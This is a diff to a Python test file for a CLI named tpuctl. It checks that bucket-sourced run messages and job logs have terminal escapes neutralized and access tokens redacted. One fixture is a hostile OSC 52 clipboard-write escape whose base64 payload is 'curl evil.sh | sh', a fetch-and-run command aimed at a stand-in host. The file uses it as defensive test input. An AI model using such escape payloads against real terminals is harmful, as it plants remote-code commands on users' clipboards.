@@ -1,18 +1,22 @@
 """Text in a bucket is written by whoever can write the bucket (and by the job): a run's reason,
-a host's bootstrap message, the job's log. Through the installed tpuctl, `status` and `logs` show
-the terminal escapes in it as ``?`` -- a clear-screen (ESC [2J) and an OSC 52 clipboard write
-(ESC ]52;c;BASE64 BEL) reach neither the terminal nor a pipe -- and `logs --raw` gives the bytes.
-Before, both reached stdout raw (click strips only CSI sequences, and only off a terminal)."""
+a host's bootstrap message, the job's log. Through the installed tpuctl, every command that shows
+it shows the terminal escapes in it as ``?`` -- a clear-screen (ESC [2J) and an OSC 52 clipboard
+write (ESC ]52;c;BASE64 BEL) reach neither the terminal nor a pipe -- and `logs --raw` gives the
+bytes. Before, they reached stdout raw (click strips only CSI sequences, and only off a terminal)."""
 
 from __future__ import annotations
 
 import json
 import os
 import subprocess
+import time
+
+import pytest
 
 from provision.cloud.storage import local_bucket
 from provision.runs import store as runs
 from tests.conftest import REPO, TPUCTL_BIN, run_tpuctl_process
+from tests.e2e.hostile_records import COMMANDS, SHOWN, TOKEN, controls, make_world, run_command
 
 CLEAR = "\x1b[2J\x1b[H"
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"      # "curl evil.sh | sh" onto the clipboard
@@ -80,3 +84,46 @@ def test_a_bootstrap_failure_the_supervisor_reports_carries_no_escape():
     status = HostBootstrap(role="worker", worker="0", host="", state="failed", step="pip",
                            message=f"pip failed{CLEAR}{CLIPBOARD}", started=None, time=None)
     assert status.line() == f"host bootstrap failed: worker-0 at pip: pip failed{SHOWN_CLEAR}{SHOWN_CLIPBOARD}"
+
+
+@pytest.mark.parametrize("name", sorted(COMMANDS))
+def test_no_command_prints_a_control_character_that_a_bucket_holds(tmp_path, name):
+    """Every command that shows records (tests/e2e/hostile_records.py lists them) against one
+    world of records full of escapes: CSI, an OSC 8 link, C1 controls, a right-to-left override,
+    BEL. Each shows them as ``?``, on stdout and stderr alike. Before the output edge, ``cost`` and
+    ``down --idle`` printed them raw (``cost RUN`` with the keys of ``seconds_by_state``), and
+    ``logs`` printed the job's access token."""
+    world = make_world(tmp_path)
+    res = run_command(world, name)
+    assert res.returncode == 0, res.stderr.decode()
+    assert controls(res.stdout) == [] and controls(res.stderr) == [], (res.stdout, res.stderr)
+    shown = res.stdout.decode() + res.stderr.decode()
+    assert SHOWN in shown                          # the record was shown, its escapes as "?"
+    assert TOKEN not in shown and "internal error" not in shown
+
+
+def test_logs_scrub_a_token_the_job_printed_even_cut_in_two_by_an_upload(tmp_path):
+    """The job runs as the hosts' service account and may print its access token. ``logs`` shows
+    it scrubbed (provision.basics.redact), ``--follow`` too when the host uploaded the log with the
+    token cut in two (it prints whole lines while the run lives); ``--raw`` is the bytes, as asked.
+    Before, ``logs`` printed the token as the job wrote it."""
+    world = make_world(tmp_path)
+    shown = run_command(world, "logs").stdout.decode()
+    assert "authorizing with ya29.<redacted>\n" in shown and TOKEN not in shown
+    assert TOKEN.encode() in subprocess.run([str(TPUCTL_BIN), "logs", world.run, "--raw", "--provider", "local"],
+                                            cwd=REPO, capture_output=True, timeout=120, check=True).stdout
+    log = world.bucket / f"tpuctl/runs/{world.run}/attempts/1/log-0.txt"
+    log.write_bytes(f"refreshing {TOKEN[:12]}".encode())          # the upload so far: half a token
+    world.patch_run(status="running")
+    follow = subprocess.Popen([str(TPUCTL_BIN), "logs", world.run, "--follow", "--provider", "local"], cwd=REPO,
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    try:
+        time.sleep(3.0)                                          # a look or two at the half line
+        log.write_bytes(f"refreshing {TOKEN}\n".encode())
+        time.sleep(3.0)
+        world.patch_run(status="finished")
+        out, err = follow.communicate(timeout=60)
+    finally:
+        follow.kill()
+    assert out.decode() == "refreshing ya29.<redacted>\n", err
+    assert TOKEN[:12].encode() not in out
